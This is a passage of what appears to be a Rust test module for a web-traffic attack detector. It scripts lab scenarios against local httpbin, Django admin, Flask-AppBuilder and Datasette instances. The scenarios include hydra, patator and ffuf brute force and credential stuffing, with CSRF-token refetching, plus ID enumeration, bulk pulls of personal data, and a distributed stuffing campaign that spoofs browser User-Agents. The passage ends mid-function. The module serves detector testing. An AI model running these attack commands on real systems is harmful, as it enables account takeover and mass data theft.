//! The third-party scenarios: which tool runs against which application, with which word
//! lists, and what each is expected to raise.

use super::*;

use crate::attacks::lab::{combo, john_passwords, write_lines};

const ATTACKER: &str = apitap_tests::CLIENT_IP;

/// The brute-force victim (account 2; its password is entry 170 of John's list).
const VICTIM_ID: u64 = 2;

/// Passwords in the brute-force lists (John's list, the victim's password among them).
const BRUTE_PASSWORDS: usize = 230;

/// What a traffic function did: the attack (tool, command, addresses) and which user names
/// in its lists carry valid credentials (the attacker's logins that succeed).
pub(super) struct Run {
    pub(super) attack: Attack,
    pub(super) successes: Vec<String>,
}

impl Run {
    pub(super) fn new(attack: Attack) -> Run {
        Run {
            attack,
            successes: Vec::new(),
        }
    }
}

/// One third-party scenario.
pub(super) struct TSpec {
    pub(super) app: &'static str,
    pub(super) name: &'static str,
    /// stuffing, brute_force, crawling, enumeration, bulk, distributed_stuffing, benign.
    pub(super) kind: &'static str,
    pub(super) description: &'static str,
    pub(super) detector: &'static str,
    pub(super) actor_key: &'static str,
    pub(super) actor: &'static str,
    pub(super) alt: &'static [(&'static str, &'static str)],
    pub(super) traffic: fn(&TLab) -> anyhow::Result<Run>,
}

const fn attack(
    app: &'static str,
    name: &'static str,
    kind: &'static str,
    detector: &'static str,
    description: &'static str,
    alt: &'static [(&'static str, &'static str)],
    traffic: fn(&TLab) -> anyhow::Result<Run>,
) -> TSpec {
    TSpec {
        app,
        name,
        kind,
        description,
        detector,
        actor_key: "ip",
        actor: ATTACKER,
        alt,
        traffic,
    }
}

const fn benign(app: &'static str, name: &'static str, description: &'static str) -> TSpec {
    TSpec {
        app,
        name,
        kind: "benign",
        description,
        detector: "none",
        actor_key: "none",
        actor: "",
        alt: &[],
        traffic: no_traffic,
    }
}

fn no_traffic(_: &TLab) -> anyhow::Result<Run> {
    bail!("the benign scenarios run only the population")
}

const DISTRIBUTED_ALT: &[(&str, &str)] = &[
    ("subnet", "10.87.0.0/16"),
    ("subnet", "10.133.0.0/16"),
    ("fingerprint", "curl"),
];

pub(super) const SCENARIOS: &[TSpec] = &[
    benign(
        "httpbin",
        "httpbin_benign",
        "Benign only: 24 people browsing httpbin (pages, assets, forms, Basic-auth logins, a few typos) and a monitor polling /ip twice a second.",
    ),
    attack(
        "httpbin",
        "httpbin_brute_hydra_basic",
        "brute_force",
        "brute_force",
        "Password cracking of one account over HTTP Basic auth (401 on failure): hydra http-get with John's list; succeeds at entry 171 and stops (-f).",
        &[("account", "yuanyong")],
        httpbin_brute_hydra,
    ),
    attack(
        "httpbin",
        "httpbin_crawl_wget",
        "crawling",
        "crawling",
        "Crawling: wget --mirror of /links/200/0 (robots.txt first, then 200 linked pages).",
        &[("fingerprint", "Wget")],
        httpbin_crawl_wget,
    ),
    attack(
        "httpbin",
        "httpbin_crawl_httrack",
        "crawling",
        "crawling",
        "Crawling: httrack mirror of /links/200/0 (robots.txt, 200 linked pages, 4 connections).",
        &[("fingerprint", "HTTrack")],
        httpbin_crawl_httrack,
    ),
    attack(
        "httpbin",
        "httpbin_crawl_gobuster",
        "crawling",
        "crawling",
        "Forced browsing: gobuster dir with dirb's common.txt (mostly 404).",
        &[("fingerprint", "gobuster")],
        httpbin_crawl_gobuster,
    ),
    benign(
        "django",
        "django_benign",
        "Benign only: 24 staff users of Django's admin (login form with CSRF, a few typos answered 200, change lists, change forms, logout) and a monitor polling /healthz twice a second.",
    ),
    attack(
        "django",
        "django_stuffing_patator",
        "stuffing",
        "credential_stuffing",
        "Credential stuffing against Django's admin login (failure = 200 with the form again): patator http_fuzz fetches the CSRF token before every attempt (before_urls/before_egrep); 320 user names from one combo list, 4 succeed (302 + sessionid).",
        &[("subnet", "10.213.0.0/24")],
        django_stuffing_patator,
    ),
    attack(
        "django",
        "django_brute_patator",
        "brute_force",
        "brute_force",
        "Password cracking of one admin account (failure = 200): patator http_fuzz with CSRF refetch, 230 passwords from John's list; the real one (entry 171) succeeds.",
        &[("account", "yuanyong")],
        django_brute_patator,
    ),
    attack(
        "django",
        "django_enum_ffuf",
        "enumeration",
        "enumeration",
        "ID walk through Django's admin change forms: a logged-in staff account requests /admin/people/person/{1..2000}/change/ with ffuf (1500 × 200 with personal data, 500 × 302).",
        &[("account", "session")],
        django_enum_ffuf,
    ),
    TSpec {
        app: "django",
        name: "django_stuffing_distributed",
        kind: "distributed_stuffing",
        description: "Distributed low-and-slow stuffing of Django's admin form: 150 addresses in three /16s, 2-3 attempts each (GET the form for the CSRF token, then POST), distinct user names, browser User-Agents, spread over 10 minutes; 2 attempts use valid credentials.",
        detector: "credential_stuffing",
        actor_key: "subnet",
        actor: "10.61.0.0/16",
        alt: DISTRIBUTED_ALT,
        traffic: django_distributed,
    },
    benign(
        "fab",
        "fab_benign",
        "Benign only: 24 users of a Flask-AppBuilder contact directory (two thirds through the web UI with form login, one third through the REST API with JWT logins; a few typos) and a monitor polling the latest contacts twice a second.",
    ),
    attack(
        "fab",
        "fab_stuffing_hydra_form",
        "stuffing",
        "credential_stuffing",
        "Credential stuffing against FAB's login form (failure = 302 back to /login/): hydra http-post-form with a 320-pair combo list, 4 succeed.",
        &[("subnet", "10.213.0.0/24")],
        fab_stuffing_hydra,
    ),
    attack(
        "fab",
        "fab_brute_hydra_form",
        "brute_force",
        "brute_force",
        "Password cracking of one account on FAB's login form (302 either way): hydra http-post-form with 230 passwords from John's list; stops at the real one (-f).",
        &[("account", "yuanyong")],
        fab_brute_hydra,
    ),
    attack(
        "fab",
        "fab_stuffing_ffuf_api",
        "stuffing",
        "credential_stuffing",
        "Credential stuffing against FAB's REST login POST /api/v1/security/login (JSON; 401 on failure, 200 + access_token on success): ffuf pitchfork over 300 pairs, 3 succeed.",
        &[
            ("subnet", "10.213.0.0/24"),
            ("fingerprint", "Fuzz Faster U Fool"),
        ],
        fab_stuffing_ffuf,
    ),
    attack(
        "fab",
        "fab_enum_ffuf",
        "enumeration",
        "enumeration",
        "ID walk on FAB's REST API: a logged-in staff account (bearer JWT) requests /api/v1/contact/{1..2000} with ffuf (1500 × 200 with personal data, 500 × 404).",
        &[("account", "jwt")],
        fab_enum_ffuf,
    ),
    attack(
        "fab",
        "fab_bulk_paging",
        "bulk",
        "abnormal_access",
        "Bulk data pull: a logged-in staff account pages through all 1500 contacts (names, mobiles, PRC IDs) with ?q=(page:N,page_size:100), 15 pages (curl URL glob).",
        &[("account", "jwt")],
        fab_bulk_paging,
    ),
    TSpec {
        app: "fab",
        name: "fab_stuffing_distributed",
        kind: "distributed_stuffing",
        description: "Distributed low-and-slow stuffing of FAB's JSON login API: 150 addresses in three /16s, 2-3 attempts each, distinct user names, browser User-Agents, spread over 10 minutes; 2 attempts use valid credentials (200 + access_token).",
        detector: "credential_stuffing",
        actor_key: "subnet",
        actor: "10.61.0.0/16",
        alt: DISTRIBUTED_ALT,
        traffic: fab_distributed,
    },
    benign(
        "datasette",
        "datasette_benign",
        "Benign only: 24 people browsing a Datasette shop database (tables, pagination, row pages, filtered orders, a few JSON calls) and a monitor polling the latest orders as JSON twice a second.",
    ),
    attack(
        "datasette",
        "datasette_crawl_wget",
        "crawling",
        "crawling",
        "Crawling: wget --mirror of the whole Datasette instance (tables, pagination, row pages, JSON/CSV exports), bounded by depth 3, a 4 MB quota and 150 s.",
        &[("fingerprint", "Wget")],
        datasette_crawl_wget,
    ),
    attack(
        "datasette",
        "datasette_crawl_httrack",
        "crawling",
        "crawling",
        "Crawling: httrack mirror of the Datasette instance (depth 3, 4 connections), bounded by 150 s and 4 MB.",
        &[("fingerprint", "HTTrack")],
        datasette_crawl_httrack,
    ),
    attack(
        "datasette",
        "datasette_enum_wfuzz",
        "enumeration",
        "enumeration",
        "ID walk on Datasette row pages: wfuzz over /shop/customers/{1..2200} (2000 × 200 with personal data, 200 × 404).",
        &[("fingerprint", "Wfuzz")],
        datasette_enum_wfuzz,
    ),
    attack(
        "datasette",
        "datasette_bulk_json",
        "bulk",
        "abnormal_access",
        "Bulk data pull through Datasette's JSON API: all 2000 customers with PRC IDs and mobiles in 20 pages of 100 (curl URL glob over _next).",
        &[],
        datasette_bulk_json,
    ),
    benign(
        "deluge",
        "deluge_benign",
        "Benign only: 24 people opening deluge-web (the page and its scripts, JSON-RPC auth.login with the shared web password, a few typos answered 200 {\"result\": false}, UI polling) and a monitor calling web.connected twice a second.",
    ),
    attack(
        "deluge",
        "deluge_brute_ffuf",
        "brute_force",
        "brute_force",
        "Password guessing on deluge-web's JSON-RPC login (200 either way: {\"result\": false} or true + _session_id): ffuf with 230 passwords from John's list; the real one (entry 191) succeeds.",
        &[("fingerprint", "Fuzz Faster U Fool")],
        deluge_brute_ffuf,
    ),
];

// ---- helpers --------------------------------------------------------------------------------

fn victim(lab: &TLab) -> anyhow::Result<&Account> {
    lab.accounts
        .iter()
        .find(|a| a.id == VICTIM_ID)
        .context("victim account missing")
}

/// John's first [`BRUTE_PASSWORDS`] entries into `passwords.txt`; the index of `real`.
fn brute_list(lab: &TLab, real: &str) -> anyhow::Result<usize> {
    let list = john_passwords(BRUTE_PASSWORDS)?;
    let at = list
        .iter()
        .position(|p| p == real)
        .with_context(|| format!("the real password {real:?} is not in the list"))?;
    write_lines(&lab.dir.join("passwords.txt"), list)?;
    Ok(at)
}

/// Valid (user, password) pairs of a combo list.
fn valid_users(lab: &TLab, list: &[(String, String)]) -> Vec<String> {
    list.iter()
        .filter(|(u, p)| {
            lab.accounts
                .iter()
                .any(|a| &a.username == u && &a.password == p)
        })
        .map(|(u, _)| u.clone())
        .collect()
}

fn single(
    tool: &'static str,
    package: &'static str,
    command: String,
    notes: impl Into<String>,
) -> Run {
    Run::new(Attack::by_attacker(tool, package, command, notes))
}

/// A staff account the single-source attacker owns (enumeration, bulk pull).
fn insider(lab: &TLab) -> anyhow::Result<&Account> {
    lab.accounts
        .iter()
        .find(|a| a.id == 60)
        .context("account 60 missing")
}

// ---- httpbin --------------------------------------------------------------------------------

fn httpbin_brute_hydra(lab: &TLab) -> anyhow::Result<Run> {
    let v = victim(lab)?;
    let at = brute_list(lab, &v.password)?;
    let args = strings(&[
        "-I",
        "-f",
        "-l",
        &v.username,
        "-P",
        "passwords.txt",
        "-t",
        "4",
        "-s",
        &lab.app.port.to_string(),
        SERVER_IP,
        "http-get",
        &format!("/basic-auth/{}/{}", v.username, v.password),
    ]);
    let command = lab.tool("hydra", 300, "hydra", &args)?;
    let mut run = single(
        "hydra",
        "hydra",
        command,
        format!(
            "passwords.txt: first {BRUTE_PASSWORDS} entries of /usr/share/john/password.lst; {}'s password is entry {} (hydra stops there, -f). httpbin's /basic-auth/{{user}}/{{passwd}} checks the Authorization header against the path.",
            v.username,
            at + 1
        ),
    );
    run.successes = vec![v.username.clone()];
    Ok(run)
}

fn httpbin_crawl_wget(lab: &TLab) -> anyhow::Result<Run> {
    let args = strings(&[
        "--mirror",
        "-l",
        "2",
        "--quota=20m",
        "--no-verbose",
        "-P",
        "mirror",
        &lab.url("/links/200/0"),
    ]);
    let command = lab.tool("wget", 240, "wget", &args)?;
    Ok(single(
        "wget",
        "wget",
        command,
        "robots.txt, /links/200/0 and the 199 pages it links (each links all the others)",
    ))
}

fn httrack(lab: &TLab, start: &str, notes: &str) -> anyhow::Result<Run> {
    let args = strings(&[
        &lab.url(start),
        "-O",
        "mirror",
        "-r3",
        "-c4",
        "-E150",
        "-M4000000",
        "-#L5000",
        "-q",
        "-%v0",
    ]);
    let command = lab.tool("httrack", 200, "httrack", &args)?;
    Ok(single("httrack", "httrack", command, notes))
}

fn httpbin_crawl_httrack(lab: &TLab) -> anyhow::Result<Run> {
    httrack(
        lab,
        "/links/200/0",
        "robots.txt, /links/200/0 and the pages it links, depth 3, 4 connections, bounded by 150 s (-E150), 4 MB (-M) and 5000 links (-#L)",
    )
}

fn gobuster(lab: &TLab, notes: &str) -> anyhow::Result<Run> {
    let args = strings(&[
        "dir",
        "-q",
        "--no-error",
        "-t",
        "10",
        "-u",
        &lab.url("/"),
        "-w",
        "/usr/share/dirb/wordlists/common.txt",
        "-o",
        "gobuster.txt",
    ]);
    let command = lab.tool("gobuster", 300, "gobuster", &args)?;
    Ok(single("gobuster", "gobuster", command, notes))
}

fn httpbin_crawl_gobuster(lab: &TLab) -> anyhow::Result<Run> {
    gobuster(
        lab,
        "dirb's common.txt (4614 words); gobuster first probes a random path for wildcard answers",
    )
}

// ---- Django admin ---------------------------------------------------------------------------

const DJANGO_LOGIN: &str = "/admin/login/?next=/admin/";

fn patator_django(lab: &TLab, body: &str, files: &[&str]) -> anyhow::Result<String> {
    let mut args = vec![
        "http_fuzz".to_owned(),
        format!("url={}", lab.url(DJANGO_LOGIN)),
        "method=POST".into(),
        format!("body={body}"),
    ];
    args.extend(files.iter().map(|f| (*f).to_owned()));
    args.extend(strings(&[
        &format!("before_urls={}", lab.url(DJANGO_LOGIN)),
        r#"before_egrep=_CSRF_:name="csrfmiddlewaretoken" value="(\w+)""#,
        "accept_cookie=1",
        // A fresh handle (cookie jar) per attempt: a success's session does not leak into the
        // next attempt's form fetch.
        "persistent=0",
        // patator 0.9 with Debian's pycurl rejects its own empty default (`resolve=''`).
        &format!("resolve={SERVER_IP}:{SERVER_IP}"),
        "-x",
        "ignore:code=200",
        "--threads=4",
    ]));
    lab.tool("patator", 400, "patator", &args)
}

fn django_stuffing_patator(lab: &TLab) -> anyhow::Result<Run> {
    let list = combo(&lab.accounts, 11, 320, 4, "test");
    write_lines(
        &lab.dir.join("combo.txt"),
        list.iter().map(|(u, p)| format!("{u}:{p}")),
    )?;
    let command = patator_django(
        lab,
        "csrfmiddlewaretoken=_CSRF_&username=COMBO00&password=COMBO01&next=%2Fadmin%2F",
        &["0=combo.txt"],
    )?;
    let mut run = single(
        "patator",
        "patator",
        command,
        "combo.txt: 320 user:password pairs, each user name once, 240 real staff accounts (4 with their real password), 80 unknown; every attempt GETs the form first for its CSRF token and cookie",
    );
    run.successes = valid_users(lab, &list);
    Ok(run)
}

fn django_brute_patator(lab: &TLab) -> anyhow::Result<Run> {
    let v = victim(lab)?;
    let at = brute_list(lab, &v.password)?;
    let command = patator_django(
        lab,
        &format!(
            "csrfmiddlewaretoken=_CSRF_&username={}&password=FILE0&next=%2Fadmin%2F",
            v.username
        ),
        &["0=passwords.txt"],
    )?;
    let mut run = single(
        "patator",
        "patator",
        command,
        format!(
            "passwords.txt: first {BRUTE_PASSWORDS} entries of John's list; {}'s password is entry {} (patator goes on to the end); every attempt GETs the form first",
            v.username,
            at + 1
        ),
    );
    run.successes = vec![v.username.clone()];
    Ok(run)
}

/// Logs in to Django's admin with curl from `source`; returns the sessionid.
fn django_login(lab: &TLab, source: &str, user: &str, password: &str) -> anyhow::Result<String> {
    let jar = lab.dir.join(format!("jar-{source}.txt"));
    let jar_s = jar.to_string_lossy().into_owned();
    let form = lab.curl(source, &["-c", &jar_s, &lab.url(DJANGO_LOGIN)])?;
    let token = csrf_token(&form).context("no CSRF token in the login form")?;
    lab.curl(
        source,
        &[
            "-b",
            &jar_s,
            "-c",
            &jar_s,
            "-o",
            "/dev/null",
            "--data-urlencode",
            &format!("csrfmiddlewaretoken={token}"),
            "--data-urlencode",
            &format!("username={user}"),
            "--data-urlencode",
            &format!("password={password}"),
            "--data-urlencode",
            "next=/admin/",
            &lab.url(DJANGO_LOGIN),
        ],
    )?;
    let jar_text = std::fs::read_to_string(&jar)?;
    jar_text
        .lines()
        .find(|l| l.contains("\tsessionid\t"))
        .and_then(|l| l.split('\t').next_back())
        .map(str::to_owned)
        .with_context(|| format!("Django login as {user} failed"))
}

fn csrf_token(html: &str) -> Option<String> {
    let key = "name=\"csrfmiddlewaretoken\" value=\"";
    let start = html.find(key)? + key.len();
    let len = html[start..].find('"')?;
    Some(html[start..start + len].to_owned())
}

fn django_enum_ffuf(lab: &TLab) -> anyhow::Result<Run> {
    let me = insider(lab)?;
    let session = django_login(lab, ATTACKER, &me.username, &me.password)?;
    write_lines(&lab.dir.join("ids.txt"), (1..=2000).map(|i| i.to_string()))?;
    let args = strings(&[
        "-s",
        "-w",
        "ids.txt",
        "-u",
        &lab.url("/admin/people/person/FUZZ/change/"),
        "-H",
        &format!("Cookie: sessionid={session}"),
        "-mc",
        "200",
        "-t",
        "8",
    ]);
    let command = lab
        .tool("ffuf", 300, "ffuf", &args)?
        .replace(&session, "$SESSIONID");
    Ok(single(
        "ffuf",
        "ffuf",
        command,
        format!(
            "staff account {} logs in first (curl: GET the form, POST it; $SESSIONID is its session cookie), then ids 1..2000",
            me.username
        ),
    ))
}

// ---- distributed campaigns ------------------------------------------------------------------

const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Linux; Android 14; SM-S9180) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
];

/// One attempt of a campaign: when (s after the start), from where, which credentials.
struct Attempt {
    at: f64,
    addr: String,
    ua: &'static str,
    user: String,
    password: String,
}

/// 150 addresses × 2-3 attempts over [`CAMPAIGN_S`]: each address starts at a random time
/// and waits 20-90 s between its attempts; every attempt a distinct user name; 2 valid pairs.
fn campaign(lab: &TLab, seed: u64) -> anyhow::Result<Vec<Attempt>> {
    let addrs = campaign_addrs();
    let mut rng = Rng::new(seed);
    let counts: Vec<usize> = addrs.iter().map(|_| 2 + rng.below(2)).collect();
    let total: usize = counts.iter().sum();
    let list = combo(&lab.accounts, seed, total, 2, "cn");
    let mut it = list.into_iter();
    let mut out = Vec::new();
    for (addr, n) in addrs.iter().zip(counts) {
        let ua = BROWSER_UAS[rng.below(BROWSER_UAS.len())];
        let span = CAMPAIGN_S as f64 - 200.0;
        let mut at = rng.below(span as usize) as f64 + rng.below(1000) as f64 / 1000.0;
        for _ in 0..n {
            let (user, password) = it.next().context("combo list too short")?;
            out.push(Attempt {
                at,
                addr: addr.clone(),
                ua,
                user,
                password,
            });
            at += 20.0 + rng.below(70) as f64;
        }
    }
    out.sort_by(|a, b| a.at.total_cmp(&b.at));
    Ok(out)
}

/// Runs a campaign: each attempt at its time (bounded by the schedule plus 120 s), by
/// `attempt`, which returns the command it ran and whether the login succeeded.
fn run_campaign(
    lab: &TLab,
    seed: u64,
    attempt: fn(&TLab, &Attempt) -> anyhow::Result<(String, bool)>,
    what: &str,
) -> anyhow::Result<Run> {
    let plan = campaign(lab, seed)?;
    let started = Instant::now();
    let bound = Duration::from_secs(CAMPAIGN_S + 120);
    let mut first = String::new();
    let mut ok_users = Vec::new();
    let mut failures = 0;
    for a in &plan {
        if started.elapsed() > bound {
            bail!("distributed campaign exceeded its {bound:?} bound");
        }
        std::thread::sleep(Duration::from_secs_f64(a.at).saturating_sub(started.elapsed()));
        match attempt(lab, a) {
            Ok((line, ok)) => {
                if first.is_empty() {
                    first = line;
                }
                if ok {
                    ok_users.push(a.user.clone());
                }
            }
            Err(e) => {
                failures += 1;
                eprintln!("  attempt from {}: {e:#}", a.addr);
                if failures > 10 {
                    return Err(e).context("too many failed campaign attempts");
                }
            }
        }
    }
    let addrs = campaign_addrs();
    let valid = valid_users(
        lab,
        &plan
            .iter()
            .map(|a| (a.user.clone(), a.password.clone()))
            .collect::<Vec<_>>(),
    );
    if valid != ok_users {
        eprintln!("  note: valid pairs {valid:?}, logins that succeeded {ok_users:?}");
    }
    Ok(Run {
        attack: Attack {
            tool: "curl",
            package: "curl",
            command: format!(
                "{first}   # the first of {} such attempts from 150 addresses (50 in each of {}), 2-3 per address 20-90 s apart, over {CAMPAIGN_S} s",
                plan.len(),
                CAMPAIGN_NETS
                    .iter()
                    .map(|n| format!("{n}.0.0/16"))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
            attackers: addrs,
            benign: Vec::new(),
            notes: format!(
                "{} attempts, each a distinct user name from one combo list (75 % real accounts), a browser User-Agent per address; {what}; valid pairs: {}",
                plan.len(),
                valid.len()
            ),
        },
        successes: ok_users,
    })
}

fn browser_headers(a: &Attempt) -> Vec<String> {
    strings(&[
        "-A",
        a.ua,
        "-H",
        "Accept-Language: zh-CN,zh;q=0.9,en;q=0.6",
        "-H",
        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ])
}

fn django_attempt(lab: &TLab, a: &Attempt) -> anyhow::Result<(String, bool)> {
    let jar = lab.dir.join(format!("campaign-jar-{}.txt", a.addr));
    let jar_s = jar.to_string_lossy().into_owned();
    let mut get = strings(&["-c", &jar_s]);
    get.extend(browser_headers(a));
    get.push(lab.url(DJANGO_LOGIN));
    let argv: Vec<&str> = get.iter().map(String::as_str).collect();
    let form = lab.curl(&a.addr, &argv)?;
    let token = csrf_token(&form).context("no CSRF token")?;
    let mut post = strings(&[
        "-b",
        &jar_s,
        "-c",
        &jar_s,
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
    ]);
    post.extend(browser_headers(a));
    post.extend(strings(&[
        "-e",
        &lab.url(DJANGO_LOGIN),
        "--data-urlencode",
        &format!("csrfmiddlewaretoken={token}"),
        "--data-urlencode",
        &format!("username={}", a.user),
        "--data-urlencode",
        &format!("password={}", a.password),
        "--data-urlencode",
        "next=/admin/",
        &lab.url(DJANGO_LOGIN),
    ]));
    let argv: Vec<&str> = post.iter().map(String::as_str).collect();
    let code = lab.curl(&a.addr, &argv)?;
    let _ = std::fs::remove_file(&jar);
    let mut full = strings(&["-sS", "--max-time", "10", "--interface", &a.addr]);
    full.extend(post);
    Ok((
        shell_line("curl", &full).replace(&token, "$CSRF"),
        code.trim() == "302",
    ))
}

fn django_distributed(lab: &TLab) -> anyhow::Result<Run> {
    run_campaign(
        lab,
        61,
        django_attempt,
        "each attempt GETs /admin/login/ (CSRF cookie and token) and POSTs the form",
    )
}

fn fab_attempt(lab: &TLab, a: &Attempt) -> anyhow::Result<(String, bool)> {
    let body = json!({"username": a.user, "password": a.password, "provider": "db"}).to_string();
    let mut args = strings(&["-o", "/dev/null", "-w", "%{http_code}", "-A", a.ua]);
    args.extend(strings(&[
        "-H",
        "Accept: application/json, text/plain, */*",
        "-H",
        "Accept-Language: zh-CN,zh;q=0.9,en;q=0.6",
        "-H",
        "Content-Type: application/json",
        "--data-binary",
        &body,
        &lab.url("/api/v1/security/login"),
    ]));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let code = lab.curl(&a.addr, &argv)?;
    let mut full = strings(&["-sS", "--max-time", "10", "--interface", &a.addr]);
    full.extend(args);
    Ok((shell_line("curl", &full), code.trim() == "200"))
}

fn fab_distributed(lab: &TLab) -> anyhow::Result<Run> {
    run_campaign(lab, 87, fab_attempt, "JSON POST /api/v1/security/login")
}

// ---- Flask-AppBuilder -----------------------------------------------------------------------

fn hydra_fab(lab: &TLab, creds: &[&str]) -> anyhow::Result<String> {
    let mut args = strings(&["-I"]);
    args.extend(strings(creds));
    args.extend(strings(&[
        "-t",
        "4",
        "-s",
        &lab.app.port.to_string(),
        SERVER_IP,
        "http-post-form",
        // Failure and success are both 302 (to /login/ or to /); hydra follows the redirect
        // and finds the logged-in page's logout link only after a success.
        "/login/:username=^USER^&password=^PASS^:S=Logout",
    ]));
    lab.tool("hydra", 300, "hydra", &args)
}

fn fab_stuffing_hydra(lab: &TLab) -> anyhow::Result<Run> {
    let list = combo(&lab.accounts, 13, 320, 4, "test");
    write_lines(
        &lab.dir.join("combo.txt"),
        list.iter().map(|(u, p)| format!("{u}:{p}")),
    )?;
    let command = hydra_fab(lab, &["-C", "combo.txt"])?;
    let mut run = single(
        "hydra",
        "hydra",
        command,
        "combo.txt: 320 user:password pairs, each user name once, 240 real accounts (4 with their real password), 80 unknown; WTF_CSRF_ENABLED = False in tests/thirdparty/fab_app/config.py so that hydra can post the form",
    );
    run.successes = valid_users(lab, &list);
    Ok(run)
}

fn fab_brute_hydra(lab: &TLab) -> anyhow::Result<Run> {
    let v = victim(lab)?;
    let at = brute_list(lab, &v.password)?;
    let command = hydra_fab(lab, &["-f", "-l", &v.username, "-P", "passwords.txt"])?;
    let mut run = single(
        "hydra",
        "hydra",
        command,
        format!(
            "passwords.txt: first {BRUTE_PASSWORDS} entries of John's list; {}'s password is entry {} (hydra stops there, -f); form CSRF disabled (see fab_app/config.py)",
            v.username,
            at + 1
        ),
    );
    run.successes = vec![v.username.clone()];
    Ok(run)
}

fn fab_stuffing_ffuf(lab: &TLab) -> anyhow::Result<Run> {
    let list = combo(&lab.accounts, 23, 300, 3, "user");
    write_lines(&lab.dir.join("users.txt"), list.iter().map(|c| c.0.clone()))?;
    write_lines(
        &lab.dir.join("passwords.txt"),
        list.iter().map(|c| c.1.clone()),
    )?;
    let args = strings(&[
        "-s",
        "-w",
        "users.txt:USER",
        "-w",
        "passwords.txt:PASS",
        "-mode",
        "pitchfork",
        "-X",
        "POST",
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"username":"USER","password":"PASS","provider":"db"}"#,
        "-u",
        &lab.url("/api/v1/security/login"),
        "-mc",
        "200",
        "-t",
        "8",
    ]);
    let command = lab.tool("ffuf", 300, "ffuf", &args)?;
    let mut run = single(
        "ffuf",
        "ffuf",
        command,
        "users.txt/passwords.txt: 300 pairs (pitchfork), each user name once, 225 real accounts (3 with their real password), 75 unknown",
    );
    run.successes = valid_users(lab, &list);
    Ok(run)
}

/// Logs in over FAB's REST API from the attacker's address; returns the JWT.
fn fab_token(lab: &TLab, me: &Account) -> anyhow::Result<String> {
    let body =
        json!({"username": me.username, "password": me.password, "provider": "db"}).to_string();
    let out = lab.curl(
        ATTACKER,
        &[
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &body,
            &lab.url("/api/v1/security/login"),
        ],
    )?;
    let v: Value = serde_json::from_str(&out).with_context(|| format!("login: {out}"))?;
    v["access_token"]
        .as_str()
        .map(str::to_owned)
        .with_context(|| format!("login as {} failed: {out}", me.username))
}

fn fab_enum_ffuf(lab: &TLab) -> anyhow::Result<Run> {
    let me = insider(lab)?;
    let token = fab_token(lab, me)?;
    write_lines(&lab.dir.join("ids.txt"), (1..=2000).map(|i| i.to_string()))?;
    let args = strings(&[
        "-s",
        "-w",
        "ids.txt",
        "-u",
        &lab.url("/api/v1/contact/FUZZ"),
        "-H",
        &format!("Authorization: Bearer {token}"),
        "-mc",
        "200",
        "-t",
        "8",
    ]);
    let command = lab
        .tool("ffuf", 300, "ffuf", &args)?
        .replace(&token, "$TOKEN");
    Ok(single(
        "ffuf",
        "ffuf",
        command,
        format!(
            "staff account {} logs in first (curl POST /api/v1/security/login; $TOKEN is its JWT), then ids 1..2000",
            me.username
        ),
    ))
}

fn fab_bulk_paging(lab: &TLab) -> anyhow::Result<Run> {
    let me = insider(lab)?;
    let token = fab_token(lab, me)?;
    // {…} is curl's URL glob (one request per page); the rison parentheses are literal.
    let args = strings(&[
        "-sS",
        "-o",
        "page_#1.json",
        "-H",
        &format!("Authorization: Bearer {token}"),
        &lab.url("/api/v1/contact/?q=(page:{0,1,2,3,4,5,6,7,8,9,10,11,12,13,14},page_size:100)"),
    ]);
    let command = lab
        .tool("curl", 120, "curl", &args)?
        .replace(&token, "$TOKEN");
    Ok(single(
        "curl",
        "curl",
        command,
        format!(
            "staff account {} logs in first (curl POST /api/v1/security/login; $TOKEN is its JWT), then 15 pages × 100 = all 1500 contacts with mobiles and PRC ID numbers",
            me.username
        ),
    ))
}

// ---- Datasette ------------------------------------------------------------------------------

fn datasette_crawl_wget(lab: &TLab) -> anyhow::Result<Run> {
    let args = strings(&[
        "--mirror",
        "-l",
        "3",
        "--quota=4m",
        "--no-verbose",
        "-P",
        "mirror",
        &lab.url("/"),
    ]);
    let command = lab.tool("wget", 150, "wget", &args)?;
    Ok(single(
        "wget",
        "wget",
        command,
        "the whole instance from /: robots.txt (404), databases, tables, pagination, row pages, JSON and CSV exports; bounded by a 4 MB quota and 150 s",
    ))
}

fn datasette_crawl_httrack(lab: &TLab) -> anyhow::Result<Run> {
    httrack(
        lab,
        "/",
        "the whole instance from /, depth 3, 4 connections, bounded by 150 s (-E150), 4 MB (-M) and 5000 links (-#L)",
    )
}

fn datasette_enum_wfuzz(lab: &TLab) -> anyhow::Result<Run> {
    let args = strings(&[
        "-c",
        "-t",
        "5",
        "-z",
        "range,1-2200",
        "--hc",
        "404",
        &lab.url("/shop/customers/FUZZ"),
    ]);
    let command = lab.tool("wfuzz", 300, "wfuzz", &args)?;
    Ok(single(
        "wfuzz",
        "wfuzz",
        command,
        "row pages of customers 1..2200 (2000 exist)",
    ))
}

fn datasette_bulk_json(lab: &TLab) -> anyhow::Result<Run> {
    let args = strings(&[
        "-sS",
        "-o",
        "customers_#1.json",
        &lab.url("/shop/customers.json?_size=100&_next=[0-1900:100]"),
    ]);
    let command = lab.tool("curl", 120, "curl", &args)?;
    Ok(single(
        "curl",
        "curl",
        command,
        "20 pages × 100 rows: all 2000 customers with names, mobiles, PRC ID numbers, addresses (Datasette has no accounts: the actor is the address)",
    ))
}

// ---- deluge-web -----------------------------------------------------------------------------

fn deluge_brute_ffuf(lab: &TLab) -> anyhow::Result<Run> {
